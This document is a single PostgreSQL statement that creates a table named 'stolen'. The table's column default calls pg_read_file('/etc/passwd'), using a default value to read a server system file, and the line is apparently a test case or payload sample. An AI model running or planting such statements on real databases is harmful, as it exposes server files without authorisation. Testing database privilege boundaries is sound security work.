CREATE TABLE stolen (a text DEFAULT pg_read_file('/etc/passwd'))
